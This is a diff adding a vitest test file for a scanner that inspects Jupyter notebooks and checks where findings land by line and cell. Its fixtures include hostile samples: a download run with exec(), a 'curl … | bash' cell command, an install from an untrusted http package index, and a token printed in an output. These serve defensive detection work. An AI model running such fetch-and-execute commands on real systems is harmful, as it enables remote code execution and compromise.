@@ -1,0 +1,117 @@
+// Notebooks through the whole pipeline: what is found in a cell stands on the line that a reviewer sees in the diff.
+import { describe, expect, it } from 'vitest';
+import { inspectBytes } from '../../support/inspect.ts';
+import { token } from '../secret/tokens.ts';
+
+type Write = (value: unknown) => string;
+
+const indented: Write = (value) => JSON.stringify(value, null, 1);
+const minified: Write = (value) => JSON.stringify(value);
+const code = (source: string | readonly string[], outputs: readonly unknown[] = []): object => ({
+  cell_type: 'code',
+  execution_count: 1,
+  metadata: {},
+  outputs,
+  source,
+});
+const notebook = (cells: readonly object[]): object => ({
+  cells,
+  metadata: {},
+  nbformat: 4,
+  nbformat_minor: 5,
+});
+const inspect = (text: string) => inspectBytes(Buffer.from(text), 'analysis.ipynb');
+const lineOf = (text: string, word: string): number =>
+  text.split('\n').findIndex((line) => line.includes(word)) + 1;
+
+describe.each([
+  ['as nbformat writes it', indented],
+  ['minified', minified],
+])('a notebook %s', (_, write) => {
+  it('has a download that is run, across cells, on its line and in its cell', async () => {
+    const text = write(
+      notebook([
+        code(['import requests\n', 'body = requests.get("https://example.invalid/x").text\n']),
+        code(['print(1)\n', 'exec(body)\n']),
+      ]),
+    );
+    const { findings } = await inspect(text);
+    const found = findings.find(({ rule, severity }) => rule.startsWith('CODE-') && severity === 'CRITICAL');
+    expect(found?.location).toMatchObject({
+      path: 'analysis.ipynb',
+      line: lineOf(text, 'exec(body)'),
+      cell: 2,
+    });
+    // Lines of the decoded program would send the reader astray.
+    expect(found?.evidence).not.toMatch(/line \d/);
+  });
+
+  it('has a command of a cell', async () => {
+    const text = write(notebook([code('x = 1'), code(['!curl https://example.invalid/i.sh | bash\n'])]));
+    const found = (await inspect(text)).findings.find(({ rule }) => rule === 'CODE-PIPE-SHELL');
+    expect(found?.location).toMatchObject({ line: lineOf(text, '!curl'), cell: 2 });
+  });
+
+  it('has a secret in an output', async () => {
+    const output = {
+      output_type: 'stream',
+      name: 'stdout',
+      text: ['logged in\n', `key ${token('huggingface-user')}\n`],
+    };
+    const text = write(notebook([code('login()', [output])]));
+    const found = (await inspect(text)).findings.find(({ rule }) => rule === 'SECRET-AI-PROVIDER');
+    expect(found?.location).toMatchObject({ line: lineOf(text, 'key hf_'), cell: 1 });
+  });
+
+  it('has what a cell installs', async () => {
+    const text = write(
+      notebook([code('%pip install --index-url http://pypi.example.invalid/simple thing\n')]),
+    );
+    const { findings } = await inspect(text);
+    expect(
+      findings.filter(({ rule }) => rule.startsWith('PACKAGE-')).map(({ location }) => location.line),
+    ).toContain(lineOf(text, 'pip install'));
+  });
+});
+
+describe('an ordinary notebook', () => {
+  it('is quiet, and is one artifact', async () => {
+    const cells = [
+      { cell_type: 'markdown', metadata: {}, source: ['# Training\n'] },
+      code(['!pip install -q "transformers>=4.40" datasets\n', '%matplotlib inline\n', 'import os\n']),
+      code(
+        ['for epoch in range(3):\n', '    print(epoch)\n'],
+        [{ output_type: 'stream', name: 'stdout', text: ['0\n'] }],
+      ),
+    ];
+    const { findings, coverage } = await inspect(indented(notebook(cells)));
+    expect(findings.filter(({ severity }) => severity !== 'INFO')).toEqual([]);
+    expect(coverage.map(({ format, status }) => [format, status])).toEqual([['notebook', 'inspected']]);
+  });
+
+  it('may talk to a server of its own with its environment', async () => {
+    const source = [
+      'import os, requests\n',
+      'env = dict(os.environ)\n',
+      'requests.post("http://localhost:8000/v1", json={})\n',
+    ];
+    const { findings } = await inspect(indented(notebook([code(source)])));
+    expect(findings.filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW')).toEqual([]);
+  });
+});
+
+describe('what is no notebook', () => {
+  it.each(['{"cells": [', '[]', 'not JSON', '{"cells": [], "nbformat": 99}'])(
+    '%j needs review',
+    async (text) => {
+      const { findings, coverage } = await inspect(text);
+      expect(findings).toMatchObject([{ rule: 'SCAN-INCOMPLETE', severity: 'MEDIUM' }]);
+      expect(coverage).toMatchObject([{ format: 'notebook', status: 'partial' }]);
+    },
+  );
+
+  it('is not read when it is larger than any', async () => {
+    const { findings } = await inspect(`{"cells": [${' '.repeat(64 * 2 ** 20)}]}`);
+    expect(findings).toMatchObject([{ rule: 'SCAN-INCOMPLETE' }]);
+  });
+});
